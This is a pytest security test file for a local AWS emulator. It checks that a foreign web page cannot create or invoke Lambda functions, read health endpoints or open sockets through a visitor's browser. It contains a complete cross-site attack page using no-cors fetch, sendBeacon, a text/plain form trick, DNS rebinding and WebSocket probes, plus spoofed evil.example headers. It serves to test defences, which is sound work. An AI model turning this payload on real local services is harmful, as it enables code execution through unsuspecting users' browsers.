"""A foreign page cannot use the emulator through its visitor's browser."""

import base64
import io
import json
import queue
import zipfile
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from infra.local.host.servers import Servers
from tests import chromium
from tests.local.host.conftest import Running
from tests.local.host.free_ports import free_ports
from tests.local.host.test_front_door import ask

FUNCTION, BUCKET = "intruder", "bucket-of-a-page"
_PATIENCE = 60.0
METHODS = ("GET", "POST", "PUT", "DELETE", "OPTIONS", "HEAD", "PATCH")


def function_of_the_attacker(ran: Path) -> str:
    """The body of `CreateFunction` for code that proves it ran by writing a file."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as code:
        code.writestr("index.py", f"def handler(*_):\n    open({str(ran)!r}, 'w').write('ran')\n")
    function = {
        "FunctionName": FUNCTION,
        "Runtime": "python3.11",
        "Role": "arn:aws:iam::000000000000:role/any",
        "Handler": "index.handler",
        "Code": {"ZipFile": base64.b64encode(packed.getvalue()).decode()},
    }
    return json.dumps(function)


def functions(running: Running) -> list[str]:
    return [each["FunctionName"] for each in running.client("lambda").list_functions()["Functions"]]


BROWSER_HEADERS: list[dict[str, str]] = [
    {"Origin": "http://evil.example", "Content-Type": "text/plain"},
    {"Origin": "null", "Content-Type": "text/plain", "Sec-Fetch-Site": "cross-site"},
    {"Referer": "http://evil.example/page", "Content-Type": "application/x-www-form-urlencoded"},
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Content-Type": "text/plain"},
    {"Host": "evil.example:4566", "Content-Type": "text/plain"},
    {"Content-Type": "text/plain"},
    {"Authorization": "AWS4-HMAC-SHA256 Credential=000000000000/20260101/us-east-1/lambda/aws4_request, "
     "SignedHeaders=host, Signature=00", "Content-Type": "text/plain"},
]  # fmt: skip


@pytest.mark.parametrize("headers", BROWSER_HEADERS)
def test_a_foreign_request_cannot_create_or_invoke_a_function(
    running: Running, tmp_path: Path, headers: dict[str, str]
) -> None:
    body = function_of_the_attacker(tmp_path / "ran").encode()

    created = ask(running.ports.emulator, "POST", "/2015-03-31/functions", body, headers)
    invoked = ask(running.ports.emulator, "POST", f"/2015-03-31/functions/{FUNCTION}/invocations", b"{}", headers)

    assert {created.status, invoked.status} <= {400, 403}
    assert functions(running) == []
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    "path",
    ["/", "/_ministack/health", "/_ministack/ready", "/_localstack/health", "/_ministack/config", "/bucket/key",
     "/restapis/abc/local/_user_request_/api/v1/health", "/_aws/execute-api/abc/local", "/_aws/lambda/x/y",
     "/_ministack/lambda-layers/x/1"],
)  # fmt: skip
@pytest.mark.parametrize("method", METHODS)
def test_no_emulator_path_serves_unauthenticated_requests(running: Running, method: str, path: str) -> None:
    answer = ask(running.ports.emulator, method, path)

    assert answer.status in {400, 403}
    assert "access-control-allow-origin" not in answer.headers


@pytest.mark.parametrize("method", sorted({*METHODS} - {"PUT"}))
def test_addresses_for_responses_of_functions_serve_nothing_else(running: Running, method: str) -> None:
    """CloudFormation gives them to functions, which sign nothing; their last part is random."""
    answer = ask(running.ports.emulator, method, "/_ministack/cfn-response/token")

    assert answer.status in {400, 403}


def test_an_unauthenticated_reset_changes_nothing(running: Running) -> None:
    running.client("sqs").create_queue(QueueName="still-there")

    answer = ask(running.ports.emulator, "POST", "/_ministack/reset", headers={"Origin": "http://evil.example"})

    assert answer.status == 403
    assert running.client("sqs").get_queue_url(QueueName="still-there")


@pytest.mark.parametrize("shown", ["", "x", "null"])
def test_a_wrong_host_key_is_refused(running: Running, shown: str) -> None:
    answer = ask(running.ports.emulator, "GET", "/_ministack/health", headers={"X-Tally-Host-Key": shown})

    assert answer.status == 403


ATTACK = """<!doctype html><title>Kittens</title><form id="form" method="post" enctype="text/plain" target="frame"
 action="{emulator}/2015-03-31/functions"><textarea name='{body_start}'>{body_rest}</textarea></form>
<iframe name="frame"></iframe>
<iframe sandbox="allow-scripts" srcdoc="<script>fetch('{emulator}/2015-03-31/functions',
 {{method: 'POST', mode: 'no-cors', body: parent.name}})</script>"></iframe>
<script>
const body = {body};
const post = (base, path, text) => fetch(base + path, {{method: 'POST', mode: 'no-cors', body: text,
  headers: {{'Content-Type': 'text/plain'}}}}).then(answer => answer.type, error => 'failed');
const read = (base, path) => fetch(base + path).then(answer => answer.text(), error => 'failed');
const socket = address => new Promise(done => {{
  const opened = new WebSocket(address);
  opened.onopen = () => done('open'); opened.onerror = () => done('refused');
}});
(async () => {{
  const told = {{}};
  for (const [name, base] of [['address', '{emulator}'], ['rebound', '{rebound}']]) {{
    await post(base, '/2015-03-31/functions', body);
    await post(base, '/2015-03-31/functions/{function}/invocations', '{{}}');
    navigator.sendBeacon(base + '/2015-03-31/functions', body);
    told[name] = await read(base, '/_ministack/health');
    told[name + ' socket'] = await socket(base.replace('http', 'ws') + '/_aws/execute-api/abc/local');
  }}
  document.getElementById('form').submit();
  await new Promise(done => document.querySelector('[name=frame]').addEventListener('load', done));
  await fetch('/told', {{method: 'POST', body: JSON.stringify(told)}});
}})();
</script>"""

UPLOAD = """<!doctype html><title>Upload</title><script>
fetch({address}, {{method: 'PUT', headers: {{'If-None-Match': '*'}}, body: 'a file'}})
  .then(answer => String(answer.status), error => String(error))
  .then(text => fetch('/told', {{method: 'POST', body: JSON.stringify(text)}}));
</script>"""


class Site:
    """A web site of one page, which receives the findings of the page."""

    def __init__(self) -> None:
        self.page = ""
        self.told: queue.Queue[Any] = queue.Queue()

    def application(self) -> web.Application:
        """Return the site to serve."""

        async def show(_: web.Request) -> web.Response:
            return web.Response(text=self.page, content_type="text/html")

        async def hear(request: web.Request) -> web.Response:
            self.told.put(json.loads(await request.read()))
            return web.Response()

        app = web.Application()
        app.router.add_get("/", show)
        app.router.add_post("/told", hear)
        return app


def test_a_foreign_page_in_a_real_browser_runs_no_code_and_reads_nothing(running: Running, tmp_path: Path) -> None:
    site, port = Site(), free_ports().web
    ran = tmp_path / "ran"
    body = function_of_the_attacker(ran)
    emulator = running.emulator.url
    site.page = ATTACK.format(
        emulator=emulator,
        rebound=emulator.replace("127.0.0.1", chromium.FOREIGN),
        body=json.dumps(body),
        body_start=body[:1],
        body_rest=body[1:],
        function=FUNCTION,
    )

    with Servers() as servers:
        servers.serve(site.application(), port)
        with chromium.visiting(f"http://{chromium.FOREIGN}:{port}/", tmp_path / "profile"):
            told = site.told.get(timeout=_PATIENCE)

    assert told == {"address": "failed", "address socket": "refused", "rebound": "failed", "rebound socket": "refused"}
    assert functions(running) == []
    assert not ran.exists()


def test_the_platform_page_uploads_to_a_presigned_url_in_a_real_browser(running: Running, tmp_path: Path) -> None:
    site, s3 = Site(), running.client("s3")
    s3.create_bucket(Bucket=BUCKET)
    rule = {"AllowedMethods": ["PUT"], "AllowedOrigins": ["*"], "AllowedHeaders": ["*"]}
    s3.put_bucket_cors(Bucket=BUCKET, CORSConfiguration={"CORSRules": [rule]})
    address = s3.generate_presigned_url("put_object", {"Bucket": BUCKET, "Key": "file", "IfNoneMatch": "*"})
    site.page = UPLOAD.format(address=json.dumps(address))

    with Servers() as servers:
        servers.serve(site.application(), running.ports.web)
        with chromium.visiting(f"http://localhost:{running.ports.web}/", tmp_path / "profile"):
            told = site.told.get(timeout=_PATIENCE)

    assert told == "200"
    assert s3.get_object(Bucket=BUCKET, Key="file")["Body"].read() == b"a file"
    s3.delete_object(Bucket=BUCKET, Key="file")
    s3.delete_bucket(Bucket=BUCKET)
